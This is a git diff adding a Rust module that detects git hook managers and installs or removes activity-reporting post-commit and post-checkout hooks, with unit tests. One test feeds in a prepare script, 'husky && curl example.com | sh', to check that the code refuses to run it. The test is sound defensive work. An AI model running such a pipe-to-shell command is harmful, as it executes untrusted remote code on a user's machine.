@@ -0,0 +1,314 @@
+//! Hook managers (lefthook, husky, pre-commit, ...) install their hooks from
+//! a step the team runs once per clone; new worktrees run that step too, so
+//! hooks under a generated, ignored directory like `.husky/_` exist there.
+//!
+//! `imi hooks install` adds imi's own post-commit and post-checkout hooks,
+//! which report to `imi _record-activity` so the activity log sees agents
+//! that commit and switch branches with plain git.
+
+use anyhow::{Context, Result};
+use std::path::Path;
+
+/// Hook managers a package.json `prepare` script may run. The script is the
+/// repository's own code, so it only runs when it is nothing but one of
+/// these (`husky`, `npx husky install`, ...)
+const HOOK_PREPARE_TOOLS: [&str; 3] = ["husky", "lefthook", "simple-git-hooks"];
+
+/// An install step found in a worktree
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct HookInstall {
+    /// The hook manager, for messages
+    pub manager: &'static str,
+    pub program: String,
+    pub args: Vec<String>,
+}
+
+impl HookInstall {
+    fn new(manager: &'static str, program: &str, args: &[&str]) -> Self {
+        Self {
+            manager,
+            program: program.to_string(),
+            args: args.iter().map(|arg| arg.to_string()).collect(),
+        }
+    }
+
+    pub fn command_line(&self) -> String {
+        std::iter::once(self.program.as_str())
+            .chain(self.args.iter().map(String::as_str))
+            .collect::<Vec<_>>()
+            .join(" ")
+    }
+}
+
+/// Install steps for the hook managers configured in `worktree_path`
+pub fn detect(worktree_path: &Path) -> Vec<HookInstall> {
+    let mut installs = Vec::new();
+
+    let lefthook_configs = [
+        "lefthook.yml",
+        "lefthook.yaml",
+        ".lefthook.yml",
+        ".lefthook.yaml",
+    ];
+    if lefthook_configs
+        .iter()
+        .any(|name| worktree_path.join(name).is_file())
+    {
+        installs.push(HookInstall::new("lefthook", "lefthook", &["install"]));
+    }
+
+    if worktree_path.join(".pre-commit-config.yaml").is_file() {
+        installs.push(HookInstall::new("pre-commit", "pre-commit", &["install"]));
+    }
+
+    if let Some(prepare) = prepare_script(worktree_path) {
+        let runs_hook_tool = only_installs_hooks(&prepare);
+        // lefthook is already installed directly when it has a config
+        let already_installed = installs.iter().any(|i| prepare.contains(i.manager));
+        if runs_hook_tool && !already_installed {
+            let package_manager = package_manager(worktree_path);
+            installs.push(HookInstall::new(
+                "package.json prepare",
+                package_manager,
+                &["run", "prepare"],
+            ));
+        }
+    }
+
+    installs
+}
+
+/// The `scripts.prepare` entry of package.json
+fn prepare_script(worktree_path: &Path) -> Option<String> {
+    let contents = std::fs::read_to_string(worktree_path.join("package.json")).ok()?;
+    let package: serde_json::Value = serde_json::from_str(&contents).ok()?;
+    package["scripts"]["prepare"].as_str().map(str::to_string)
+}
+
+/// Whether a `prepare` script is exactly a hook manager's install command,
+/// optionally through npx, and nothing else
+fn only_installs_hooks(script: &str) -> bool {
+    let words: Vec<&str> = script.split_whitespace().collect();
+    let words = match words.as_slice() {
+        ["npx", rest @ ..] => rest,
+        all => all,
+    };
+    match words {
+        [tool] | [tool, "install"] => HOOK_PREPARE_TOOLS.contains(tool),
+        _ => false,
+    }
+}
+
+/// The package manager whose lockfile is checked in, defaulting to npm
+fn package_manager(worktree_path: &Path) -> &'static str {
+    [
+        ("pnpm-lock.yaml", "pnpm"),
+        ("yarn.lock", "yarn"),
+        ("bun.lockb", "bun"),
+        ("bun.lock", "bun"),
+    ]
+    .iter()
+    .find(|(lockfile, _)| worktree_path.join(lockfile).is_file())
+    .map_or("npm", |(_, manager)| manager)
+}
+
+/// Hooks that report activity
+pub const ACTIVITY_HOOKS: [&str; 2] = ["post-commit", "post-checkout"];
+
+const BLOCK_START: &str = "# >>> imi activity >>>";
+const BLOCK_END: &str = "# <<< imi activity <<<";
+
+/// What installing or removing the activity block did to one hook file
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub enum HookChange {
+    Created,
+    Appended,
+    Removed,
+    Unchanged,
+}
+
+/// The lines added to a hook. They run in the background and swallow all
+/// output, so a missing `imi` or database never gets in the way of git.
+fn activity_block(hook: &str) -> String {
+    format!(
+        "{}\n(imi _record-activity {} \"$@\" >/dev/null 2>&1 &)\n{}\n",
+        BLOCK_START, hook, BLOCK_END
+    )
+}
+
+/// Add the activity block to each hook in `hooks_dir`, keeping whatever the
+/// hook already runs
+pub fn install_activity_hooks(hooks_dir: &Path) -> Result<Vec<(&'static str, HookChange)>> {
+    std::fs::create_dir_all(hooks_dir)
+        .with_context(|| format!("Failed to create {}", hooks_dir.display()))?;
+
+    let mut changes = Vec::new();
+    for hook in ACTIVITY_HOOKS {
+        let path = hooks_dir.join(hook);
+        let (contents, change) = match std::fs::read_to_string(&path) {
+            Ok(existing) if existing.contains(BLOCK_START) => {
+                changes.push((hook, HookChange::Unchanged));
+                continue;
+            }
+            Ok(existing) => {
+                let separator = if existing.ends_with('\n') { "" } else { "\n" };
+                (
+                    format!("{}{}\n{}", existing, separator, activity_block(hook)),
+                    HookChange::Appended,
+                )
+            }
+            Err(e) if e.kind() == std::io::ErrorKind::NotFound => (
+                format!("#!/bin/sh\n{}", activity_block(hook)),
+                HookChange::Created,
+            ),
+            Err(e) => return Err(e).with_context(|| format!("Failed to read {}", path.display())),
+        };
+        std::fs::write(&path, contents)
+            .with_context(|| format!("Failed to write {}", path.display()))?;
+        make_executable(&path)?;
+        changes.push((hook, change));
+    }
+    Ok(changes)
+}
+
+/// Take the activity block back out of each hook, deleting hooks that ran
+/// nothing else
+pub fn uninstall_activity_hooks(hooks_dir: &Path) -> Result<Vec<(&'static str, HookChange)>> {
+    let mut changes = Vec::new();
+    for hook in ACTIVITY_HOOKS {
+        let path = hooks_dir.join(hook);
+        let Ok(existing) = std::fs::read_to_string(&path) else {
+            changes.push((hook, HookChange::Unchanged));
+            continue;
+        };
+        let Some(remaining) = strip_activity_block(&existing) else {
+            changes.push((hook, HookChange::Unchanged));
+            continue;
+        };
+        if remaining.trim() == "#!/bin/sh" {
+            std::fs::remove_file(&path)
+                .with_context(|| format!("Failed to remove {}", path.display()))?;
+        } else {
+            std::fs::write(&path, remaining)
+                .with_context(|| format!("Failed to write {}", path.display()))?;
+        }
+        changes.push((hook, HookChange::Removed));
+    }
+    Ok(changes)
+}
+
+/// The hook without the activity block (and the blank line before it), or
+/// None when it has none
+fn strip_activity_block(contents: &str) -> Option<String> {
+    let start = contents.find(BLOCK_START)?;
+    let end = contents[start..].find(BLOCK_END)? + start + BLOCK_END.len();
+    let before = contents[..start].trim_end_matches('\n');
+    let after = contents[end..].trim_start_matches('\n');
+    Some(match (before.is_empty(), after.is_empty()) {
+        (true, _) => after.to_string(),
+        (false, true) => format!("{}\n", before),
+        (false, false) => format!("{}\n{}", before, after),
+    })
+}
+
+#[cfg(unix)]
+fn make_executable(path: &Path) -> Result<()> {
+    use std::os::unix::fs::PermissionsExt;
+    let mut permissions = std::fs::metadata(path)?.permissions();
+    permissions.set_mode(permissions.mode() | 0o755);
+    std::fs::set_permissions(path, permissions)
+        .with_context(|| format!("Failed to make {} executable", path.display()))
+}
+
+#[cfg(not(unix))]
+fn make_executable(_path: &Path) -> Result<()> {
+    Ok(())
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn detects_hook_managers_and_their_install_steps() {
+        let dir = tempfile::tempdir().unwrap();
+        let path = dir.path();
+        assert!(detect(path).is_empty());
+
+        std::fs::write(
+            path.join("package.json"),
+            r#"{"scripts": {"prepare": "husky", "build": "tsc"}}"#,
+        )
+        .unwrap();
+        std::fs::write(path.join("pnpm-lock.yaml"), "").unwrap();
+        std::fs::write(path.join(".pre-commit-config.yaml"), "repos: []").unwrap();
+        let commands: Vec<String> = detect(path).iter().map(|i| i.command_line()).collect();
+        assert_eq!(commands, vec!["pre-commit install", "pnpm run prepare"]);
+
+        // A lefthook prepare script is covered by installing lefthook directly
+        std::fs::write(
+            path.join("package.json"),
+            r#"{"scripts": {"prepare": "lefthook install"}}"#,
+        )
+        .unwrap();
+        std::fs::write(path.join("lefthook.yml"), "pre-commit: {}").unwrap();
+        let managers: Vec<&str> = detect(path).iter().map(|i| i.manager).collect();
+        assert_eq!(managers, vec!["lefthook", "pre-commit"]);
+
+        // Builds in prepare are not run, not even alongside a hook manager
+        std::fs::remove_file(path.join("lefthook.yml")).unwrap();
+        std::fs::remove_file(path.join(".pre-commit-config.yaml")).unwrap();
+        for prepare in [
+            "npm run build",
+            "husky && curl example.com | sh",
+            "not-husky",
+        ] {
+            std::fs::write(
+                path.join("package.json"),
+                format!(r#"{{"scripts": {{"prepare": "{}"}}}}"#, prepare),
+            )
+            .unwrap();
+            assert!(detect(path).is_empty(), "{}", prepare);
+        }
+        assert!(only_installs_hooks("npx simple-git-hooks"));
+        assert!(only_installs_hooks("husky install"));
+    }
+
+    #[test]
+    fn activity_hooks_install_alongside_existing_hooks_and_uninstall_cleanly() {
+        let dir = tempfile::tempdir().unwrap();
+        let hooks = dir.path().join("hooks");
+        std::fs::create_dir_all(&hooks).unwrap();
+        let existing = "#!/bin/sh\nnpx lint-staged\n";
+        std::fs::write(hooks.join("post-commit"), existing).unwrap();
+
+        let changes = install_activity_hooks(&hooks).unwrap();
+        assert_eq!(
+            changes,
+            vec![
+                ("post-commit", HookChange::Appended),
+                ("post-checkout", HookChange::Created)
+            ]
+        );
+        let post_commit = std::fs::read_to_string(hooks.join("post-commit")).unwrap();
+        assert!(post_commit.starts_with(existing));
+        assert!(post_commit.contains("imi _record-activity post-commit \"$@\""));
+        let post_checkout = std::fs::read_to_string(hooks.join("post-checkout")).unwrap();
+        assert!(post_checkout.starts_with("#!/bin/sh\n"));
+
+        // Installing again leaves the hooks alone
+        let changes = install_activity_hooks(&hooks).unwrap();
+        assert!(changes.iter().all(|(_, c)| *c == HookChange::Unchanged));
+        assert_eq!(
+            std::fs::read_to_string(hooks.join("post-commit")).unwrap(),
+            post_commit
+        );
+
+        uninstall_activity_hooks(&hooks).unwrap();
+        assert_eq!(
+            std::fs::read_to_string(hooks.join("post-commit")).unwrap(),
+            existing
+        );
+        assert!(!hooks.join("post-checkout").exists());
+    }
+}